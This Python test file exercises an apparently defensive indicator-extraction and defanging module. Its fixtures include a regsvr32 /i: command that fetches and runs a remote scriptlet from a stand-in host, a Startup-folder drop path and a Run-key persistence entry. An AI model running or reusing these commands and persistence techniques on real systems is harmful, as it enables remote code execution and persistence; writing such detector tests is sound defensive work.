from __future__ import annotations

from aptcatch.capture.indicators import defang, extract_indicators, is_allowlisted, refang
from aptcatch.model.scan import IndicatorType as T


def found(text: str) -> set[tuple[str, str]]:
    return {(t.value, v) for t, v in extract_indicators(text)}


def test_urls_and_hosts() -> None:
    got = found('cmd = "regsvr32 /s /n /u /i:http://update.example-cdn.test/ti.sct scrobj.dll"')
    assert ("url", "http://update.example-cdn.test/ti.sct") in got
    assert ("domain", "update.example-cdn.test") in got


def test_refanged_input() -> None:
    got = found("visit hxxp://bad[.]example-cdn[.]test/x now")
    assert ("url", "http://bad.example-cdn.test/x") in got


def test_code_tokens_are_not_domains() -> None:
    got = found("ActiveDocument.Content.Text = Workbook.Open; Shell.Run; WScript.Shell; obj.exe; x.dll")
    assert not [v for t, v in got if t == "domain"]


def test_ips_emails_hashes_paths_registry() -> None:
    text = (
        "c2 198.51.100.7 version 1.0.0.0 mail to attacker@evil.test "
        "hash d41d8cd98f00b204e9800998ecf8427e "
        r"drop %APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\svch.exe "
        r"key HKCU\Software\Microsoft\Windows\CurrentVersion\Run\upd"
    )
    got = found(text)
    assert ("ipv4", "198.51.100.7") in got
    assert ("ipv4", "1.0.0.0") not in got
    assert ("email", "attacker@evil.test") in got
    assert ("md5", "d41d8cd98f00b204e9800998ecf8427e") in got
    assert any(t == "file_path" and "Startup" in v for t, v in got)
    assert any(t == "registry_key" and v.startswith("HKCU\\Software") for t, v in got)


def test_allowlist_is_explicit() -> None:
    assert is_allowlisted(T.URL, "http://schemas.openxmlformats.org/officeDocument/2006/relationships")
    assert is_allowlisted(T.DOMAIN, "schemas.microsoft.com")
    assert is_allowlisted(T.URL, "http://www.w3.org/1999/xhtml")
    assert not is_allowlisted(T.DOMAIN, "onedrive.live.com")
    assert not is_allowlisted(T.DOMAIN, "microsoft.com.evil.test")
    assert not is_allowlisted(T.URL, "http://update.example-cdn.test/a")


def test_defang_round_trip() -> None:
    assert defang("http://a.b.test/x.y", T.URL) == "hxxp://a[.]b[.]test/x.y"
    assert defang("a.b.test", T.DOMAIN) == "a[.]b[.]test"
    assert defang("x@b.test", T.EMAIL) == "x[@]b[.]test"
    assert refang(defang("http://a.b.test/x", T.URL)) == "http://a.b.test/x"


def test_defang_text_in_free_text() -> None:
    from aptcatch.capture.indicators import defang_text

    out = defang_text(
        "runs regsvr32 /i:http://update.example-cdn.test/ti.sct and mails x@evil.test from 198.51.100.7"
    )
    assert "http://" not in out
    assert "hxxp://update[.]example-cdn[.]test/ti.sct" in out
    assert "x[@]evil[.]test" in out
    assert "198[.]51[.]100[.]7" in out
    assert defang_text("Workbook_Open → Shell") == "Workbook_Open → Shell"
